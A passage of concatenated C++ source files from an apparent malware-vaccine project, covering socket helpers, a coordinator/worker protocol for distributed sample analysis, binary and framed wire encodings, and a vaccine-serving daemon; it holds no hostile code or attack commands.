          StrFormat("socket failed: %s", std::strerror(errno)));
    }
    const int enable = 1;
    (void)::setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &enable,
                       sizeof(enable));
    if (::bind(fd, reinterpret_cast<const sockaddr*>(&addr),
               sizeof(addr)) != 0) {
      const int err = errno;
      ::close(fd);
      return Status::Internal(StrFormat("bind %s failed: %s",
                                        endpoint.Spec().c_str(),
                                        std::strerror(err)));
    }
    if (::listen(fd, backlog) != 0) {
      const int err = errno;
      ::close(fd);
      return Status::Internal(
          StrFormat("listen failed: %s", std::strerror(err)));
    }
    return fd;
  }

  AUTOVAC_ASSIGN_OR_RETURN(const sockaddr_un addr,
                           UnixAddress(endpoint.path));
  // A stale socket file from a previous (crashed) server blocks bind.
  (void)::unlink(endpoint.path.c_str());
  const int fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd < 0) {
    return Status::Internal(
        StrFormat("socket failed: %s", std::strerror(errno)));
  }
  if (::bind(fd, reinterpret_cast<const sockaddr*>(&addr),
             sizeof(addr)) != 0) {
    const int err = errno;
    ::close(fd);
    return Status::Internal(StrFormat("bind %s failed: %s",
                                      endpoint.path.c_str(),
                                      std::strerror(err)));
  }
  if (::listen(fd, backlog) != 0) {
    const int err = errno;
    ::close(fd);
    (void)::unlink(endpoint.path.c_str());
    return Status::Internal(
        StrFormat("listen failed: %s", std::strerror(err)));
  }
  return fd;
}

Result<uint16_t> ListenPort(int fd) {
  sockaddr_in addr{};
  socklen_t len = sizeof(addr);
  if (::getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len) != 0 ||
      addr.sin_family != AF_INET) {
    return Status::Internal("getsockname failed");
  }
  return static_cast<uint16_t>(ntohs(addr.sin_port));
}

Result<int> DialEndpoint(const Endpoint& endpoint, uint64_t deadline_ms) {
  int fd = -1;
  sockaddr_storage storage{};
  socklen_t len = 0;
  if (endpoint.tcp) {
    AUTOVAC_ASSIGN_OR_RETURN(const sockaddr_in addr, TcpAddress(endpoint));
    std::memcpy(&storage, &addr, sizeof(addr));
    len = sizeof(addr);
    fd = ::socket(AF_INET, SOCK_STREAM, 0);
  } else {
    AUTOVAC_ASSIGN_OR_RETURN(const sockaddr_un addr,
                             UnixAddress(endpoint.path));
    std::memcpy(&storage, &addr, sizeof(addr));
    len = sizeof(addr);
    fd = ::socket(AF_UNIX, SOCK_STREAM, 0);
  }
  if (fd < 0) {
    return Status::Internal(
        StrFormat("socket failed: %s", std::strerror(errno)));
  }
  SetDeadlines(fd, deadline_ms);
  // WireConnect retries EINTR and applies the installed NetFaultPlan, if
  // any — TCP connections inherit the chaos shim for free.
  if (WireConnect(fd, reinterpret_cast<const sockaddr*>(&storage), len) !=
      0) {
    const int err = errno;
    WireClose(fd);
    // Refused/absent reads as "no server yet" so startup-wait loops can
    // key on NotFound alone.
    return Status::NotFound(StrFormat("connect %s failed: %s",
                                      endpoint.Spec().c_str(),
                                      std::strerror(err)));
  }
  return fd;
}

}  // namespace autovac::net
