// Fleet wire protocol: the coordinator/worker control plane for
// distributed detonation campaigns, carried over the same AVNF framing
// (frame.h) and connection-per-request discipline as the vacd protocol.
//
// The corpus itself travels out-of-band (both sides load the same sample
// set — shared storage in production, the same generator seed in tests);
// the control plane hands out *indices* plus content digests, so a
// worker holding the wrong corpus refuses loudly instead of analyzing
// the wrong bytes.
//
// Requests are tagged by "op":
//   {"op":"claim","worker":"w1"}
//   {"op":"renew","worker":"w1","lease":7}
//   {"op":"complete","worker":"w1","lease":7,"index":3,
//    "request_id":"...","report":{<sample report json>}}
//   {"op":"verdict","worker":"w1","lease":7,"index":3,
//    "api_calls":120,"resource_calls":14,"tainted":3,"identifiers":2,
//    "suspicious":true}
//   {"op":"fleet_status"}
// Replies echo the op with {"ok":true,...}; failures reuse the vacd
// ErrorReply shape {"ok":false,"busy":<bool>,"error":"..."}.
//
// Lease semantics (see DESIGN.md §12): a claim grants a lease (id +
// validity window); the lease is invalidated by *reassignment* after
// expiry, not by the clock tick itself, and a complete under an
// invalidated lease is rejected as stale — the exactly-once guard
// against zombie workers.
#pragma once

#include <cstdint>
#include <string>
#include <string_view>
#include <variant>

#include "net/protocol.h"
#include "support/status.h"
#include "vaccine/pipeline.h"

namespace autovac::net {

struct ClaimRequest {
  std::string worker_id;
};

// has_work=false comes in two flavors: done=true means the whole corpus
// is completed (the worker can exit); done=false means every remaining
// sample is leased to someone else right now — poll again, a lease may
// yet expire back into the pending queue.
struct ClaimReply {
  bool has_work = false;
  bool done = false;
  uint64_t sample_index = 0;
  std::string sample_name;
  std::string sample_digest;  // worker cross-checks its local corpus copy
  uint64_t lease_id = 0;
  uint64_t lease_ms = 0;  // validity window; renew well before it elapses
  // Campaign config digest (journal.h CampaignConfigDigest): a worker
  // configured with different pipeline options refuses the claim, since
  // its reports could never merge byte-identically.
  std::string config_digest;
};

struct RenewRequest {
  std::string worker_id;
  uint64_t lease_id = 0;
};

struct RenewReply {
  bool renewed = false;  // false: lease is stale (expired + reassigned)
  uint64_t lease_ms = 0;
};

struct CompleteRequest {
  std::string worker_id;
  uint64_t lease_id = 0;
  uint64_t sample_index = 0;
  // Client-generated idempotency key: a retried upload carries the same
  // id and is answered from the coordinator's dedup window (the PR 6
  // idempotent-push discipline applied to report uploads).
  std::string request_id;
  vaccine::SampleReport report;
};

struct CompleteReply {
  bool accepted = false;   // journaled and counted
  bool stale = false;      // lease invalid: the work was reassigned
  bool duplicate = false;  // sample already completed (benign retry/race)
  // True when the whole corpus is now completed. Piggybacked so the
  // worker that finishes the last sample can exit on its own upload's
  // acknowledgement instead of racing one more claim against a
  // coordinator that may already be tearing its socket down.
  bool campaign_done = false;
};

// Online verdict stream ("Online Malware Detection using Process
// Resource Utilization Metrics", PAPERS.md): a cheap resource-profile
// scored before full analysis completes, so operators see suspicious
// samples minutes before the vaccine pipeline finishes. Advisory only —
// verdicts never enter the merged CampaignReport (which must stay
// byte-identical to a fault-free run).
struct VerdictRequest {
  std::string worker_id;
  uint64_t lease_id = 0;
  uint64_t sample_index = 0;
  uint64_t api_calls = 0;       // API calls observed in the profile run
  uint64_t resource_calls = 0;  // of those, system-resource APIs
  uint64_t tainted = 0;         // resource calls whose taint hit a branch
  uint64_t identifiers = 0;     // distinct resource identifiers touched
  bool suspicious = false;      // the thresholded verdict
};

struct VerdictReply {
  bool accepted = false;  // false: stale lease, verdict discarded
};

struct FleetStatusRequest {};

struct FleetStatusReply {
  uint64_t total = 0;       // corpus size
  uint64_t completed = 0;   // journaled sample reports
  uint64_t leased = 0;      // currently assigned, in flight
  uint64_t reassigned = 0;  // leases expired and handed to someone else
  uint64_t stale_rejected = 0;   // completes refused under a stale lease
  uint64_t duplicates = 0;       // completes for an already-done sample
  uint64_t workers = 0;          // distinct worker ids seen
  uint64_t verdicts = 0;         // verdict-stream records received
  uint64_t suspicious = 0;       // of those, flagged suspicious
  bool done = false;             // completed == total
};

using FleetRequest = std::variant<ClaimRequest, RenewRequest,
                                  CompleteRequest, VerdictRequest,
                                  FleetStatusRequest>;

// ErrorReply is shared with the vacd protocol so client retry logic
// (busy shed handling) is identical across both tiers.
using FleetReply = std::variant<ClaimReply, RenewReply, CompleteReply,
                                VerdictReply, FleetStatusReply, ErrorReply>;

[[nodiscard]] std::string FleetRequestToJson(const FleetRequest& request);
[[nodiscard]] Result<FleetRequest> ParseFleetRequest(std::string_view text);

[[nodiscard]] std::string FleetReplyToJson(const FleetReply& reply);
[[nodiscard]] Result<FleetReply> ParseFleetReply(std::string_view text);

}  // namespace autovac::net
