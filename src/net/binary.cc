#include "net/binary.h"

#include "support/binio.h"
#include "vaccine/wire.h"

namespace autovac::net {
namespace {

Status Truncated(const char* what) {
  return Status::InvalidArgument(
      std::string("truncated binary message: ") + what);
}

}  // namespace

std::string EncodeBinaryRequest(const Request& request, bool* ok) {
  *ok = true;
  std::string out;
  if (const auto* query = std::get_if<QueryRequest>(&request)) {
    PutU8(out, kBinQueryRequest);
    PutU8(out, static_cast<uint8_t>(query->resource_type));
    PutStr(out, query->identifier);
    return out;
  }
  if (const auto* pull = std::get_if<PullRequest>(&request)) {
    PutU8(out, kBinPullRequest);
    PutU64(out, pull->since);
    PutU64(out, pull->limit);
    return out;
  }
  if (std::get_if<StatusRequest>(&request) != nullptr) {
    PutU8(out, kBinStatusRequest);
    return out;
  }
  *ok = false;
  return out;
}

Result<Request> ParseBinaryRequest(std::string_view payload) {
  BinReader reader{payload, 0};
  uint8_t op;
  if (!reader.U8(&op)) return Truncated("opcode");
  if (op == kBinQueryRequest) {
    QueryRequest request;
    uint8_t resource;
    if (!reader.U8(&resource) || resource >= os::kNumResourceTypes) {
      return Status::InvalidArgument("bad binary resource type");
    }
    request.resource_type = static_cast<os::ResourceType>(resource);
    if (!reader.Str(&request.identifier)) return Truncated("identifier");
    if (!reader.Done()) return Status::InvalidArgument("trailing bytes");
    return Request(std::move(request));
  }
  if (op == kBinPullRequest) {
    PullRequest request;
    if (!reader.U64(&request.since)) return Truncated("since");
    if (!reader.U64(&request.limit)) return Truncated("limit");
    if (!reader.Done()) return Status::InvalidArgument("trailing bytes");
    return Request(request);
  }
  if (op == kBinStatusRequest) {
    if (!reader.Done()) return Status::InvalidArgument("trailing bytes");
    return Request(StatusRequest{});
  }
  return Status::InvalidArgument("unknown binary request opcode");
}

std::string EncodeBinaryReply(const Reply& reply) {
  std::string out;
  if (const auto* query = std::get_if<QueryReply>(&reply)) {
    PutU8(out, kBinQueryReply);
    PutU32(out, static_cast<uint32_t>(query->matches.size()));
    for (const vaccine::Vaccine& match : query->matches) {
      vaccine::EncodeVaccine(out, match);
    }
    return out;
  }
  if (const auto* pull = std::get_if<PullReply>(&reply)) {
    PutU8(out, kBinPullReply);
    PutU64(out, pull->epoch);
    PutU8(out, pull->more ? 1 : 0);
    PutU32(out, static_cast<uint32_t>(pull->items.size()));
    for (const FeedItem& item : pull->items) {
      PutStr(out, item.digest);
      PutU64(out, item.epoch);
      PutU8(out, item.quarantined ? 1 : 0);
      vaccine::EncodeVaccine(out, item.vaccine);
    }
    return out;
  }
  if (const auto* status = std::get_if<StatusReply>(&reply)) {
    PutU8(out, kBinStatusReply);
    PutU64(out, status->epoch);
    PutU64(out, status->served);
    PutU64(out, status->quarantined);
    PutU64(out, status->requests);
    PutU64(out, status->shed);
    PutU64(out, status->evicted);
    PutU64(out, status->checkpoint_epoch);
    PutU64(out, status->replayed);
    PutU64(out, status->dedup_hits);
    return out;
  }
  // Push/quarantine replies never travel binary (their requests are
  // JSON); everything else degrades to an error reply.
  ErrorReply error{false, "unsupported binary reply kind"};
  if (const auto* actual = std::get_if<ErrorReply>(&reply)) error = *actual;
  PutU8(out, kBinErrorReply);
  PutU8(out, error.busy ? 1 : 0);
  PutStr(out, error.message);
  return out;
}

Result<Reply> ParseBinaryReply(std::string_view payload) {
  BinReader reader{payload, 0};
  uint8_t op;
  if (!reader.U8(&op)) return Truncated("opcode");
  std::string error;
  if (op == kBinQueryReply) {
    QueryReply reply;
    uint32_t count;
    if (!reader.U32(&count)) return Truncated("match count");
    reply.matches.reserve(count);
    for (uint32_t i = 0; i < count; ++i) {
      vaccine::Vaccine match;
      if (!vaccine::DecodeVaccine(reader, &match, &error)) {
        return Status::InvalidArgument(error);
      }
      reply.matches.push_back(std::move(match));
    }
    if (!reader.Done()) return Status::InvalidArgument("trailing bytes");
    return Reply(std::move(reply));
  }
  if (op == kBinPullReply) {
    PullReply reply;
    uint8_t more;
    uint32_t count;
    if (!reader.U64(&reply.epoch)) return Truncated("epoch");
    if (!reader.U8(&more)) return Truncated("more flag");
    reply.more = more != 0;
    if (!reader.U32(&count)) return Truncated("item count");
    reply.items.reserve(count);
    for (uint32_t i = 0; i < count; ++i) {
      FeedItem item;
      uint8_t quarantined;
      if (!reader.Str(&item.digest)) return Truncated("item digest");
      if (!reader.U64(&item.epoch)) return Truncated("item epoch");
      if (!reader.U8(&quarantined)) return Truncated("item tombstone flag");
      item.quarantined = quarantined != 0;
      if (!vaccine::DecodeVaccine(reader, &item.vaccine, &error)) {
        return Status::InvalidArgument(error);
      }
      reply.items.push_back(std::move(item));
    }
    if (!reader.Done()) return Status::InvalidArgument("trailing bytes");
    return Reply(std::move(reply));
  }
  if (op == kBinStatusReply) {
    StatusReply reply;
    if (!reader.U64(&reply.epoch) || !reader.U64(&reply.served) ||
        !reader.U64(&reply.quarantined) || !reader.U64(&reply.requests) ||
        !reader.U64(&reply.shed) || !reader.U64(&reply.evicted) ||
        !reader.U64(&reply.checkpoint_epoch) ||
        !reader.U64(&reply.replayed) || !reader.U64(&reply.dedup_hits)) {
      return Truncated("status fields");
    }
    if (!reader.Done()) return Status::InvalidArgument("trailing bytes");
    return Reply(reply);
  }
  if (op == kBinErrorReply) {
    ErrorReply reply;
    uint8_t busy;
    if (!reader.U8(&busy)) return Truncated("busy flag");
    reply.busy = busy != 0;
    if (!reader.Str(&reply.message)) return Truncated("error message");
    if (!reader.Done()) return Status::InvalidArgument("trailing bytes");
    return Reply(std::move(reply));
  }
  return Status::InvalidArgument("unknown binary reply opcode");
}

}  // namespace autovac::net
