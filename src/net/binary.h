// Compact binary encoding for the hot vacd query/pull path.
//
// A frame payload's first byte discriminates the two encodings: JSON
// messages always start with '{' (0x7B), binary messages start with an
// opcode byte chosen to never collide with it. The server answers in
// the encoding the request arrived in, so JSON stays available for
// control, debugging and byte-identity checks while a polling fleet
// pays binary prices: no JSON escaping, no float formatting, one
// length-prefixed vaccine codec shared with the checkpoint image
// (vaccine/wire.h).
//
// The hot path is read-only (query/pull/status) — mutations (push,
// quarantine) carry vaccine batches rarely and stay JSON, which also
// keeps the idempotency request-id plumbing in one encoding.
#pragma once

#include <string>
#include <string_view>

#include "net/protocol.h"
#include "support/status.h"

namespace autovac::net {

// Request opcodes (first payload byte).
inline constexpr uint8_t kBinQueryRequest = 0x01;
inline constexpr uint8_t kBinPullRequest = 0x02;
inline constexpr uint8_t kBinStatusRequest = 0x03;
// Reply opcodes.
inline constexpr uint8_t kBinQueryReply = 0x81;
inline constexpr uint8_t kBinPullReply = 0x82;
inline constexpr uint8_t kBinStatusReply = 0x83;
inline constexpr uint8_t kBinErrorReply = 0xFE;

// True when `payload` should be parsed as a binary message ('{' means
// JSON). Empty payloads are neither and fail either parser.
[[nodiscard]] inline bool IsBinaryPayload(std::string_view payload) {
  return !payload.empty() && payload.front() != '{';
}

// Returns empty and sets `*ok = false` for request kinds the binary
// protocol does not carry (push/quarantine stay JSON).
[[nodiscard]] std::string EncodeBinaryRequest(const Request& request,
                                              bool* ok);
[[nodiscard]] Result<Request> ParseBinaryRequest(std::string_view payload);

[[nodiscard]] std::string EncodeBinaryReply(const Reply& reply);
[[nodiscard]] Result<Reply> ParseBinaryReply(std::string_view payload);

}  // namespace autovac::net
