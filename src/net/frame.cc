#include "net/frame.h"

#include <sys/socket.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>

#include "net/faultwire.h"
#include "support/strings.h"

namespace autovac::net {
namespace {

void PutU32(std::string& out, uint32_t value) {
  out.push_back(static_cast<char>(value & 0xFF));
  out.push_back(static_cast<char>((value >> 8) & 0xFF));
  out.push_back(static_cast<char>((value >> 16) & 0xFF));
  out.push_back(static_cast<char>((value >> 24) & 0xFF));
}

uint32_t GetU32(const char* bytes) {
  return static_cast<uint32_t>(static_cast<unsigned char>(bytes[0])) |
         static_cast<uint32_t>(static_cast<unsigned char>(bytes[1])) << 8 |
         static_cast<uint32_t>(static_cast<unsigned char>(bytes[2])) << 16 |
         static_cast<uint32_t>(static_cast<unsigned char>(bytes[3])) << 24;
}

Status WriteAll(int fd, std::string_view bytes) {
  size_t written = 0;
  while (written < bytes.size()) {
    // MSG_NOSIGNAL: a peer that hung up must surface as an EPIPE status,
    // not kill the process with SIGPIPE (the shed path closes without
    // reading, so mid-write hang-ups are an expected overload outcome).
    // WireSend is ::send unless a NetFaultPlan is installed (faultwire.h).
    ssize_t n = WireSend(fd, bytes.data() + written, bytes.size() - written,
                         MSG_NOSIGNAL);
    if (n < 0 && errno == ENOTSOCK) {
      n = ::write(fd, bytes.data() + written, bytes.size() - written);
    }
    if (n < 0) {
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) {
        return Status::DeadlineExceeded("frame write timed out");
      }
      return Status::Internal(
          StrFormat("frame write failed: %s", std::strerror(errno)));
    }
    written += static_cast<size_t>(n);
  }
  return Status::Ok();
}

// Reads exactly `size` bytes into `out`. `*eof_ok` reports whether EOF
// arrived before the first byte (a clean hang-up, not a torn frame).
Status ReadExact(int fd, char* out, size_t size, bool* clean_eof) {
  *clean_eof = false;
  size_t have = 0;
  while (have < size) {
    const ssize_t n = WireRecv(fd, out + have, size - have);
    if (n < 0) {
      if (errno == EINTR) continue;
      if (errno == EAGAIN || errno == EWOULDBLOCK) {
        return Status::DeadlineExceeded("frame read timed out");
      }
      return Status::Internal(
          StrFormat("frame read failed: %s", std::strerror(errno)));
    }
    if (n == 0) {
      if (have == 0) *clean_eof = true;
      return Status::Internal("connection closed mid-frame");
    }
    have += static_cast<size_t>(n);
  }
  return Status::Ok();
}

}  // namespace

std::string EncodeNetFrame(std::string_view payload) {
  std::string frame;
  frame.reserve(kNetFrameHeaderSize + payload.size());
  PutU32(frame, kNetFrameMagic);
  PutU32(frame, static_cast<uint32_t>(payload.size()));
  frame.append(payload);
  return frame;
}

Status WriteNetFrame(int fd, std::string_view payload) {
  if (payload.size() > kMaxNetFramePayload) {
    return Status::InvalidArgument("frame payload too large");
  }
  return WriteAll(fd, EncodeNetFrame(payload));
}

Result<bool> FrameDecoder::Next(std::string* payload) {
  if (buffer_.size() - pos_ < kNetFrameHeaderSize) return false;
  const char* header = buffer_.data() + pos_;
  if (GetU32(header) != kNetFrameMagic) {
    return Status::InvalidArgument("bad frame magic");
  }
  const uint32_t length = GetU32(header + 4);
  if (length > kMaxNetFramePayload) {
    return Status::InvalidArgument("frame payload too large");
  }
  if (buffer_.size() - pos_ < kNetFrameHeaderSize + length) return false;
  payload->assign(buffer_, pos_ + kNetFrameHeaderSize, length);
  pos_ += kNetFrameHeaderSize + length;
  // Compact once the consumed prefix dominates, so a long-lived
  // connection doesn't hold every frame it ever received.
  if (pos_ == buffer_.size()) {
    buffer_.clear();
    pos_ = 0;
  } else if (pos_ > 4096 && pos_ > buffer_.size() / 2) {
    buffer_.erase(0, pos_);
    pos_ = 0;
  }
  return true;
}

Result<std::string> ReadNetFrame(int fd) {
  char header[kNetFrameHeaderSize];
  bool clean_eof = false;
  Status read = ReadExact(fd, header, sizeof(header), &clean_eof);
  if (!read.ok()) {
    if (clean_eof) return Status::NotFound("connection closed");
    return read;
  }
  if (GetU32(header) != kNetFrameMagic) {
    return Status::InvalidArgument("bad frame magic");
  }
  const uint32_t length = GetU32(header + 4);
  if (length > kMaxNetFramePayload) {
    return Status::InvalidArgument("frame payload too large");
  }
  std::string payload(length, '\0');
  if (length > 0) {
    AUTOVAC_RETURN_IF_ERROR(
        ReadExact(fd, payload.data(), length, &clean_eof));
  }
  return payload;
}

}  // namespace autovac::net
