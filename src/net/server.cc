#include "net/server.h"

#include <poll.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <sys/un.h>
#include <unistd.h>

#include <cerrno>
#include <cstring>
#include <utility>

#include "net/frame.h"
#include "support/strings.h"
#include "support/tracing.h"

namespace autovac::net {
namespace {

void SetDeadline(int fd, uint64_t deadline_ms) {
  timeval tv;
  tv.tv_sec = static_cast<time_t>(deadline_ms / 1000);
  tv.tv_usec = static_cast<suseconds_t>((deadline_ms % 1000) * 1000);
  (void)::setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
  (void)::setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv));
}

}  // namespace

VacdServer::VacdServer(vacstore::VaccineStore store, VacdOptions options)
    : store_(std::move(store)), options_(std::move(options)) {
  if (options_.threads == 0) options_.threads = 1;
  MetricsRegistry& metrics = GlobalMetrics();
  requests_metric_ = metrics.GetCounter("vacd.requests");
  shed_metric_ = metrics.GetCounter("vacd.requests_shed");
  failed_metric_ = metrics.GetCounter("vacd.requests_failed");
  evicted_metric_ = metrics.GetCounter("vacd.slow_client_evictions");
  push_added_metric_ = metrics.GetCounter("vacd.push.added");
  push_duplicate_metric_ = metrics.GetCounter("vacd.push.duplicates");
  push_quarantined_metric_ = metrics.GetCounter("vacd.push.quarantined");
  push_deduped_metric_ = metrics.GetCounter("vacd.push.deduped");
  query_match_metric_ = metrics.GetCounter("vacd.query.matches");
  checkpoint_metric_ = metrics.GetCounter("vacd.checkpoints");
}

VacdServer::~VacdServer() { Stop(); }

Status VacdServer::Start() {
  if (running_) return Status::FailedPrecondition("server already running");

  sockaddr_un addr{};
  if (options_.socket_path.size() >= sizeof(addr.sun_path)) {
    return Status::InvalidArgument(
        StrFormat("socket path too long: %s", options_.socket_path.c_str()));
  }
  addr.sun_family = AF_UNIX;
  std::memcpy(addr.sun_path, options_.socket_path.c_str(),
              options_.socket_path.size() + 1);

  // A stale socket file from a previous (crashed) server blocks bind.
  (void)::unlink(options_.socket_path.c_str());

  listen_fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (listen_fd_ < 0) {
    return Status::Internal(
        StrFormat("socket failed: %s", std::strerror(errno)));
  }
  if (::bind(listen_fd_, reinterpret_cast<const sockaddr*>(&addr),
             sizeof(addr)) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    return Status::Internal(StrFormat("bind %s failed: %s",
                                      options_.socket_path.c_str(),
                                      std::strerror(err)));
  }
  const int backlog = static_cast<int>(
      options_.max_pending < 1 ? 1
      : options_.max_pending > 128 ? 128
                                   : options_.max_pending);
  if (::listen(listen_fd_, backlog) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    (void)::unlink(options_.socket_path.c_str());
    return Status::Internal(
        StrFormat("listen failed: %s", std::strerror(err)));
  }
  if (::pipe(stop_pipe_) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    (void)::unlink(options_.socket_path.c_str());
    return Status::Internal(
        StrFormat("pipe failed: %s", std::strerror(err)));
  }

  {
    // Single-threaded here, so the span is safe by construction.
    ScopedSpan span(GlobalTracer(), "vacd.load");
    RebuildIndex();
  }

  pool_ = std::make_unique<ThreadPool>(options_.threads);
  accept_thread_ = std::thread(&VacdServer::AcceptLoop, this);
  running_ = true;
  return Status::Ok();
}

void VacdServer::Stop() {
  if (!running_) return;
  const char stop = 'x';
  while (::write(stop_pipe_[1], &stop, 1) < 0 && errno == EINTR) {
  }
  accept_thread_.join();
  pool_.reset();  // drains queued connections, joins workers
  // Every in-flight push has been answered; make its bytes durable, and
  // leave a fresh checkpoint behind when auto-checkpointing is on so the
  // next start replays nothing.
  (void)store_.Flush();
  if (options_.checkpoint_every > 0 && store_.Checkpoint().ok()) {
    checkpoint_metric_->Increment();
  }
  ::close(listen_fd_);
  listen_fd_ = -1;
  ::close(stop_pipe_[0]);
  ::close(stop_pipe_[1]);
  stop_pipe_[0] = stop_pipe_[1] = -1;
  (void)::unlink(options_.socket_path.c_str());
  running_ = false;
}

void VacdServer::AcceptLoop() {
  while (true) {
    pollfd fds[2];
    fds[0] = {stop_pipe_[0], POLLIN, 0};
    fds[1] = {listen_fd_, POLLIN, 0};
    const int ready = ::poll(fds, 2, -1);
    if (ready < 0) {
      if (errno == EINTR) continue;
      return;
    }
    if (fds[0].revents != 0) return;  // stop requested
    if ((fds[1].revents & POLLIN) == 0) continue;
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) continue;
    SetDeadline(fd, options_.deadline_ms);
    if (options_.sndbuf_bytes > 0) {
      // Bound the per-connection output buffer: a reader that stops
      // draining blocks our writes once this fills, the send deadline
      // fires, and ServeConnection evicts the connection instead of
      // letting one slow client hold reply memory and a worker forever.
      const int sndbuf = static_cast<int>(options_.sndbuf_bytes);
      (void)::setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf,
                         sizeof(sndbuf));
    }
    if (pending_.load(std::memory_order_relaxed) >= options_.max_pending) {
      // Overload: shed at the door with an explicit busy reply.
      shed_.fetch_add(1, std::memory_order_relaxed);
      shed_metric_->Increment();
      (void)WriteNetFrame(
          fd, ReplyToJson(Reply(ErrorReply{true, "server overloaded"})));
      ::close(fd);
      continue;
    }
    pending_.fetch_add(1, std::memory_order_relaxed);
    pool_->Submit([this, fd] { ServeConnection(fd); });
  }
}

void VacdServer::ServeConnection(int fd) {
  Result<std::string> payload = ReadNetFrame(fd);
  bool answer = true;
  Reply reply = ErrorReply{};
  if (!payload.ok()) {
    // A clean hang-up (client connected and left) gets no reply.
    answer = payload.status().code() != StatusCode::kNotFound;
    reply = ErrorReply{false, payload.status().ToString()};
  } else {
    Result<Request> request = ParseRequest(*payload);
    if (!request.ok()) {
      reply = ErrorReply{false, request.status().ToString()};
    } else {
      reply = Dispatch(*request);
    }
  }
  if (const auto* error = std::get_if<ErrorReply>(&reply);
      error != nullptr && !error->busy) {
    failed_metric_->Increment();
  }
  if (answer) {
    const Status written = WriteNetFrame(fd, ReplyToJson(reply));
    if (written.code() == StatusCode::kDeadlineExceeded) {
      // The client stopped draining and our bounded SO_SNDBUF filled:
      // that is an eviction (close on them), not a generic failure.
      evicted_.fetch_add(1, std::memory_order_relaxed);
      evicted_metric_->Increment();
    }
  }
  ::close(fd);
  requests_.fetch_add(1, std::memory_order_relaxed);
  requests_metric_->Increment();
  pending_.fetch_sub(1, std::memory_order_relaxed);
}

Reply VacdServer::Dispatch(const Request& request) {
  if (const auto* push = std::get_if<PushRequest>(&request)) {
    std::unique_lock lock(mutex_);
    const bool dedup =
        !push->request_id.empty() && options_.push_dedup_window > 0;
    if (dedup) {
      // A retried push whose first application succeeded but whose reply
      // was lost: answer with the recorded reply, apply nothing twice.
      const auto hit = dedup_replies_.find(push->request_id);
      if (hit != dedup_replies_.end()) {
        push_deduped_metric_->Increment();
        dedup_hits_.fetch_add(1, std::memory_order_relaxed);
        return hit->second;
      }
    }
    Result<vacstore::PushStats> stats = [&] {
      ScopedSpan span(GlobalTracer(), "vacd.push");
      return store_.Push(push->vaccines);
    }();
    if (!stats.ok()) {
      return ErrorReply{false, stats.status().ToString()};
    }
    if (stats->added > 0) {
      ScopedSpan span(GlobalTracer(), "vacd.index_rebuild");
      RebuildIndex();
    }
    push_added_metric_->Increment(stats->added);
    push_duplicate_metric_->Increment(stats->duplicates);
    push_quarantined_metric_->Increment(stats->quarantined);
    const PushReply reply{stats->added, stats->duplicates,
                          stats->quarantined, stats->epoch};
    if (dedup) {
      // Record only after the push is durable, so a dedup hit never
      // vouches for a batch the store does not hold.
      dedup_order_.push_back(push->request_id);
      dedup_replies_[push->request_id] = reply;
      while (dedup_order_.size() > options_.push_dedup_window) {
        dedup_replies_.erase(dedup_order_.front());
        dedup_order_.pop_front();
      }
    }
    if (options_.checkpoint_every > 0) {
      added_since_checkpoint_ += stats->added;
      if (added_since_checkpoint_ >= options_.checkpoint_every) {
        // Failure is non-fatal: the journal already holds every byte,
        // recovery just replays more than it would have.
        if (store_.Checkpoint().ok()) checkpoint_metric_->Increment();
        added_since_checkpoint_ = 0;
      }
    }
    return reply;
  }
  if (const auto* query = std::get_if<QueryRequest>(&request)) {
    std::shared_lock lock(mutex_);
    const auto type = static_cast<size_t>(query->resource_type);
    QueryReply reply;
    for (const size_t id : index_[type].Match(query->identifier)) {
      reply.matches.push_back(
          store_.entries()[entry_of_id_[type][id]].vaccine);
    }
    query_match_metric_->Increment(reply.matches.size());
    return reply;
  }
  if (const auto* pull = std::get_if<PullRequest>(&request)) {
    std::shared_lock lock(mutex_);
    PullReply reply;
    reply.epoch = store_.epoch();
    for (const vacstore::StoreEntry* entry : store_.Since(pull->since)) {
      // A page never splits a feed epoch: once the limit is reached the
      // page still extends through the current epoch, so "epoch of the
      // last item received" is always an exact resume cursor.
      if (pull->limit > 0 && reply.items.size() >= pull->limit &&
          entry->epoch != reply.items.back().epoch) {
        reply.more = true;
        break;
      }
      reply.items.push_back({entry->digest, entry->epoch, entry->vaccine});
    }
    return reply;
  }
  std::shared_lock lock(mutex_);
  return Stats(lock);
}

StatusReply VacdServer::Stats() const {
  std::shared_lock lock(mutex_);
  return Stats(lock);
}

StatusReply VacdServer::Stats(
    const std::shared_lock<std::shared_mutex>&) const {
  StatusReply reply;
  reply.epoch = store_.epoch();
  reply.served = store_.served_count();
  reply.quarantined = store_.quarantined_count();
  reply.requests = requests_.load(std::memory_order_relaxed);
  reply.shed = shed_.load(std::memory_order_relaxed);
  reply.evicted = evicted_.load(std::memory_order_relaxed);
  reply.checkpoint_epoch = store_.checkpoint_epoch();
  reply.replayed = store_.replayed_records();
  reply.dedup_hits = dedup_hits_.load(std::memory_order_relaxed);
  return reply;
}

Status VacdServer::CheckpointNow() {
  std::unique_lock lock(mutex_);
  AUTOVAC_RETURN_IF_ERROR(store_.Checkpoint());
  checkpoint_metric_->Increment();
  added_since_checkpoint_ = 0;
  return Status::Ok();
}

void VacdServer::RebuildIndex() {
  for (size_t type = 0; type < os::kNumResourceTypes; ++type) {
    index_[type] = PatternIndex();
    entry_of_id_[type].clear();
  }
  const std::vector<vacstore::StoreEntry>& entries = store_.entries();
  for (size_t i = 0; i < entries.size(); ++i) {
    const vacstore::StoreEntry& entry = entries[i];
    if (entry.quarantined) continue;
    const auto type = static_cast<size_t>(entry.vaccine.resource_type);
    if (type >= os::kNumResourceTypes) continue;
    Pattern pattern =
        entry.vaccine.identifier_kind ==
                analysis::IdentifierClass::kPartialStatic
            ? entry.vaccine.pattern
